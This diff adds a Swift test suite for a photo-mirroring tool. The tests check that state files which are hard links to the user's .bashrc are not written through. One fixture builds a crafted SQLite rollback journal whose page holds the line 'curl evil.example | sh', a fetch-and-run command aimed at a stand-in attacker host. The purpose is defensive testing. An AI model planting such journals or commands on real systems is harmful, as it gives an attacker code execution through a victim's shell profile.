@@ -1,0 +1,65 @@
+import Foundation
+import TestSupport
+import Testing
+
+/// An archive that somebody else has prepared, unpacked beside the user's own files.
+@Suite("bad input: a catalog that somebody else prepared", .serialized)
+struct PreparedCatalogTests {
+  /// A mirror's folder for its own files without a mirror, and a file of the user's.
+  private func unpacked() async throws -> (session: Session, state: String, profile: String) {
+    let session = try await Session("--photos", "1")
+    let state = session.folder.appending("photos/.photomirror")
+    try FileManager.default.createDirectory(atPath: state, withIntermediateDirectories: true)
+    let profile = session.folder.appending(".bashrc")
+    try Self.profile.write(to: URL(filePath: profile))
+    return (session, state, profile)
+  }
+
+  private static let profile = Data("export PATH=/usr/bin\n".utf8)
+
+  /// 516 bytes of a header and one page's number, then the page: SQLite would write it over the first
+  /// page of the database, and cut the rest (https://sqlite.org/fileformat.html, section 3).
+  private static let journal: Data = {
+    let magic: [UInt8] = [0xD9, 0xD5, 0x05, 0xF9, 0x20, 0xA1, 0x63, 0xD7]
+    let fields: [UInt8] = [0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 2, 0, 0, 0, 2, 0]
+    let page = Array("curl evil.example | sh\n".utf8)
+    let padded = page + Array(repeating: 0x0A, count: 512 - page.count)
+    // The checksum is the nonce and every 200th byte from the end (section 3).
+    let sum = stride(from: 512 - 200, to: 0, by: -200).reduce(0) { $0 + UInt32(padded[$1]) }
+    let head = magic + fields
+    let record = [0, 0, 0, 1] + padded + withUnsafeBytes(of: sum.bigEndian) { Array($0) }
+    return Data(head + Array(repeating: 0, count: 512 - head.count) + record)
+  }()
+
+  @Test(
+    "whose files are hard links writes nothing into the files that they are",
+    arguments: [
+      "catalog.sqlite", "catalog.sqlite-journal", "catalog.sqlite-wal", "catalog.sqlite-shm",
+    ])
+  func hardLink(name: String) async throws {
+    let (session, state, profile) = try await unpacked()
+    try #require(link(profile, state + "/" + name) == 0)
+    if name == "catalog.sqlite" {
+      try Self.journal.write(to: URL(filePath: state + "/catalog.sqlite-journal"))
+    }
+    let run = try await session.run("sync flickr:recent photos")
+    #expect(run.exitCode == 4 && run.errors.contains("\(name) is one file with another name"))
+    #expect(run.errors.contains("hint: where it was copied with links (cp -al)"))
+    _ = try await session.run("status photos")
+    #expect(FileManager.default.contents(atPath: profile) == Self.profile)
+  }
+
+  @Test("whose lock is a hard link to a short file leaves that as it is")
+  func lock() async throws {
+    let (session, state, profile) = try await unpacked()
+    try Data("short\n".utf8).write(to: URL(filePath: profile))
+    try #require(link(profile, state + "/lock") == 0)
+    try await session.run("sync flickr:recent photos").expect(
+      exits: 4,
+      errors: """
+        photomirror: error: photos/.photomirror/lock is no lock but another file
+        hint: move it out of the way
+        """)
+    #expect(FileManager.default.contents(atPath: profile) == Data("short\n".utf8))
+  }
+}
